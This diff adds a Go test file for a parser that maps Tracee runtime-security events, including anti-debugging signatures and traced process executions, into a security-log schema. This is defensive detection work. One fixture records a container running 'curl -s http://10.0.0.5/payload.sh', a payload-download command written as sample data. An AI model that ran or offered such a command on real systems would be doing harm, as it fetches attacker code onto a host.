@@ -0,0 +1,90 @@
+package runtimelog
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/henrikrexed/securitylogeventprocessor/internal/processing"
+	"github.com/henrikrexed/securitylogeventprocessor/schema"
+)
+
+func TestParseTracee_Signature(t *testing.T) {
+	data, err := os.ReadFile(filepath.Join("testdata", "tracee_signature.json"))
+	require.NoError(t, err)
+
+	d, err := parseTracee(data)
+	require.NoError(t, err)
+	assert.Equal(t, "anti_debugging", d.eventType)
+	assert.Equal(t, "Anti-Debugging detected", d.hook)
+	assert.Equal(t, []string{"container-threats"}, d.policies)
+	assert.Contains(t, d.message, "A process used anti-debugging techniques")
+	assert.Equal(t, processing.SeverityLow, d.severity)
+	assert.Equal(t, &technique{id: "T1622", name: "Debugger Evasion", tactic: "Defense Evasion"}, d.technique)
+	assert.Equal(t, &schema.Process{
+		PID:    52699,
+		Binary: "/usr/bin/strace",
+		Parent: &schema.Process{PID: 52654},
+	}, d.process, "host PIDs are preferred to the PIDs in the container")
+	assert.Equal(t, &schema.Container{
+		ID:    "551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3",
+		Name:  "spaceship",
+		Image: "docker.io/tgraf/netperf:latest",
+	}, d.container)
+	assert.Equal(t, "default", d.namespace)
+	assert.Equal(t, "xwing-6d9bd5c8b9-7kq2p", d.pod)
+	assert.Equal(t, "0f3b5c39-5b6e-4d4c-9f0e-6a3c1f7f0d21", d.podUID)
+	assert.Equal(t, time.Date(2025, 10, 18, 12, 0, 1, 713327580, time.UTC), d.timestamp)
+	assert.Equal(t, "TRC-102", d.metadata["signature_id"])
+	assert.Equal(t, "ptrace", d.metadata["syscall"])
+}
+
+func TestParseTracee_Event(t *testing.T) {
+	// A traced execution of a Tracee version before 0.20, with flattened container and pod fields
+	d, err := parseTracee([]byte(`{
+		"timestamp": 1760788801713327580, "processId": 1312, "parentProcessId": 1300,
+		"processName": "curl", "containerId": "docker://8c1d2a", "containerImage": "alpine:3.20",
+		"containerName": "shell", "podName": "debug", "podNamespace": "tools",
+		"eventName": "sched_process_exec", "matchedPolicies": ["exec-monitor", "default"],
+		"args": [
+			{"name": "pathname", "type": "const char*", "value": "/usr/bin/curl"},
+			{"name": "argv", "type": "const char**", "value": ["curl", "-s", "http://10.0.0.5/payload.sh"]}
+		]
+	}`))
+	require.NoError(t, err)
+	assert.Equal(t, "sched_process_exec", d.hook)
+	assert.Equal(t, []string{"exec-monitor", "default"}, d.policies)
+	assert.Empty(t, d.severity, "traced events are not rated")
+	assert.Nil(t, d.technique)
+	assert.Equal(t, &schema.Process{
+		PID:       1312,
+		Binary:    "/usr/bin/curl",
+		Arguments: "-s http://10.0.0.5/payload.sh",
+		Parent:    &schema.Process{PID: 1300},
+	}, d.process)
+	assert.Equal(t, &schema.Container{ID: "8c1d2a", Name: "shell", Image: "alpine:3.20"}, d.container)
+	assert.Equal(t, "tools", d.namespace)
+	assert.Equal(t, "debug", d.pod)
+	assert.Equal(t, []interface{}{"exec-monitor", "default"}, d.metadata["matched_policies"])
+}
+
+func TestParseTracee_Invalid(t *testing.T) {
+	for _, body := range []string{
+		`{"eventName": `,
+		`{"processName": "curl"}`,
+		`{"eventName": "ptrace", "processName": "curl", "args": {}}`,
+	} {
+		_, err := parseTracee([]byte(body))
+		assert.Error(t, err, body)
+	}
+}
+
+func TestTacticName(t *testing.T) {
+	assert.Equal(t, "Defense Evasion", tacticName("defense-evasion"))
+	assert.Equal(t, "Privilege Escalation", tacticName("privilege_escalation"))
+	assert.Equal(t, "", tacticName(""))
+}